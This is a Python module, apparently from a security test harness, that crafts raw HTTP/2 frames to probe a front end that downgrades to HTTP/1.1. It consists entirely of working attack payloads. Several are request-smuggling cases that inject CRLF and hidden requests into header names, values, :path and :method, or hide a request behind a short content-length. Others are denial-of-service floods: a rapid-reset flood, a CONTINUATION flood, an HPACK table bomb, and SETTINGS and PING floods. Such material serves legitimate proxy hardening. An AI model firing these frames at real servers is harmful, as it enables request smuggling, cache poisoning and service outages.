"""HTTP/2 by hand: heads and frames that a strict reader refuses, and a lax one writes on as HTTP/1.1.

Fields are literal and without Huffman coding (RFC 7541 §6.2.2), so that what was sent is in the
logs as it is.
"""
from attack import *

H2 = "h2.acme.example"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    raw = value if isinstance(value, bytes) else value.encode("latin1")
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, coded = len(raw) - 127, b"\x7f"
    while rest >= 128:
        coded += bytes([rest % 128 + 128])
        rest //= 128
    return coded + bytes([rest]) + raw


def block(fields):
    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


def fields_of(mark, method="GET", path="/hello", host=H2, more=()):
    return [(":method", method), (":scheme", "https"), (":authority", host), (":path", path),
            ("x-mark", mark), *more]


def head(fields, stream=1, end=True):
    return frame(HEADERS, 0x4 | (0x1 if end else 0), stream, block(fields))


def session(data, wait=0.6):
    """Everything that the other side says to `data`, or a refusal to speak HTTP/2 at all."""
    with secure(reach(H2, 443), H2, ["h2"]) as sock:
        if sock.selected_alpn_protocol() != "h2":
            state.sent = False
            raise OSError("HTTP/2 is not spoken")
        sock.settimeout(wait)
        return talk(sock, PREFACE + frame(SETTINGS, 0, 0) + data)


def one(name, **how):
    def attempt(mark):
        more = [(key, value.replace("MARK", mark)) for key, value in how.get("more", ())]
        path = how.get("path", "/hello").replace("MARK", mark)
        return session(head(fields_of(mark, how.get("method", "GET"), path, how.get("host", H2), more)))

    ATTACKS[name] = attempt


INNER = f"\r\n\r\nGET /smuggled/MARK HTTP/1.1\r\nHost: {H2}\r\n\r\n"
one("ok_h2")
one("h2_crlf_in_value", more=[("x-a", f"b{INNER}")])
one("h2_crlf_in_name", more=[(f"x-a: b{INNER}x", "c")])
one("h2_colon_in_name", more=[("smuggled:x", "c")])
one("h2_nul_in_value", more=[("x-a", "smuggled\0b")])
one("h2_upper_name", more=[("X-Smuggled", "b")])
one("h2_transfer_encoding", more=[("transfer-encoding", "chunked"), ("x-smuggled", "1")])
one("h2_connection", more=[("connection", "x-mark"), ("x-smuggled", "1")])
one("h2_upgrade", more=[("upgrade", "h2c"), ("x-smuggled", "1")])
one("h2_path_spaces", path="/hello HTTP/1.1\r\nX-Smuggled: 1\r\nX-B: /")
one("h2_path_space", path="/hello /smuggled")
one("h2_path_relative", path="smuggled")
one("h2_path_absolute", path=f"https://{EVIL}/smuggled")
one("h2_method_spaces", method="GET /smuggled HTTP/1.1\r\nX-B:")
one("h2_two_paths", more=[(":path", "/smuggled")])
one("h2_pseudo_late", more=[("x-a", "b"), (":path", "/smuggled")])
one("h2_pseudo_unknown", more=[(":smuggled", "1")])
one("h2_two_hosts", more=[("host", "smuggled.example")])
one("h2_foreign_authority", host=EVIL)
one("h2_authority_userinfo", host=f"smuggled@{H2}")


@attack
def h2_length_short(mark):
    """A body longer than it says: the rest would be the next request of an HTTP/1.1 connection."""
    rest = f"GET /smuggled/{mark} HTTP/1.1\r\nHost: {H2}\r\n\r\n".encode()
    fields = fields_of(mark, "POST", "/hello", more=[("content-length", "4")])
    return session(head(fields, end=False) + frame(DATA, 1, 1, b"body" + rest))


@attack
def h2_second_of_connection(mark):
    """The first request is allowed; the second of the same connection names another host."""
    return session(head(fields_of("ok")) + head(fields_of(mark, host=EVIL), 3))


FLOOD = 5000


@attack
def h2_rapid_reset(mark):
    data = b"".join(head(fields_of(mark), 1 + 2 * n) + frame(RESET, 0, 1 + 2 * n, b"\0\0\0\x08") for n in range(FLOOD))
    return session(data)


@attack
def h2_continuations(mark):
    """A head that does not end."""
    first = frame(HEADERS, 1, 1, block(fields_of(mark)))
    return session(first + frame(CONTINUATION, 0, 1, block([("x-smuggled", "a" * 16000)])) * 200)


@attack
def h2_table_bomb(mark):
    """One large field in the dynamic table, named ten thousand times by a byte each."""
    large = b"\x40" + text("x-smuggled") + text("a" * 3800)
    payload = block(fields_of(mark)) + large + b"\xbe" * 10000
    return session(frame(HEADERS, 5, 1, payload))


@attack
def h2_settings_flood(mark):
    return session(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * FLOOD + head(fields_of(mark)))


@attack
def h2_ping_flood(mark):
    return session(frame(PING, 0, 0, b"smuggled") * FLOOD + head(fields_of(mark)))
